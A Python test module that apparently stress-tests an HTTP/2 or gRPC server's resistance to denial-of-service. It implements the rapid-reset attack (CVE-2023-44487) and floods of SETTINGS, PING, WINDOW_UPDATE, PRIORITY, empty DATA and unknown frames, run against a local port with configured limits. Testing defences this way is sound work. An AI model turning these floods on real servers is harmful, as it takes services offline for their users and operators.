"""Frames that cost the server more than the attacker: rapid reset, and those that ask nothing."""

import struct
import time

from beside import under
from frames import DATA, DECIDE, PING, PRIORITY, QUESTION, RST_STREAM, SETTINGS, STREAM_DECIDE, WINDOW_UPDATE, call, connect, frame

MOST = 256 << 20


def flood(port, seconds, chunk, begin=b""):
    """Sends the chunk repeatedly, on a new connection whenever the old one ends; reads nothing."""
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end and sent < MOST:
        try:
            connection = connect(port)
            connection.sendall(begin)
            while time.monotonic() < end and sent < MOST:
                connection.sendall(chunk)
                sent += len(chunk)
        except OSError:
            time.sleep(0.01)


def reset(port, seconds, message=None):
    """CVE-2023-44487: calls that are reset as soon as they begin."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            connection = connect(port)
            for first in range(1, 1 << 24, 200):
                if time.monotonic() > end:
                    return
                connection.sendall(
                    b"".join(call(stream, DECIDE, message) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)) for stream in range(first, first + 200, 2))
                )
        except OSError:
            time.sleep(0.01)


def reset_with_message(port, seconds):
    reset(port, seconds, QUESTION)


def settings(port, seconds):
    flood(port, seconds, frame(SETTINGS, payload=struct.pack(">HI", 4, 65535)) * 4000)


def ping(port, seconds):
    flood(port, seconds, frame(PING, payload=b"hostile!") * 4000)


def window_update(port, seconds):
    flood(port, seconds, frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 4000, call(1, STREAM_DECIDE))


def priority(port, seconds):
    flood(port, seconds, frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)) * 4000, call(1, STREAM_DECIDE))


def empty_data(port, seconds):
    flood(port, seconds, frame(DATA, 0, 1) * 4000, call(1, STREAM_DECIDE))


def unknown(port, seconds):
    flood(port, seconds, frame(0xF0, 0, 0, b"x" * 100) * 1000)


def run():
    for tls in ("", "server"):
        each(tls)


def each(tls):
    under("rapid reset", reset, limits=["max-unasked-size", "stalling"], attackers=2, tls=tls)
    under("rapid reset after the message", reset_with_message, tls=tls)
    for attack in (settings, ping, window_update, priority, empty_data, unknown):
        # gRPC stops reading if its answers to these are not read, so nothing need be ended.
        limits = [] if attack in (settings, ping) else ["max-unasked-size", "stalling"]
        under(f"a flood of {attack.__name__.replace('_', ' ')} frames", attack, limits=limits, tls=tls)
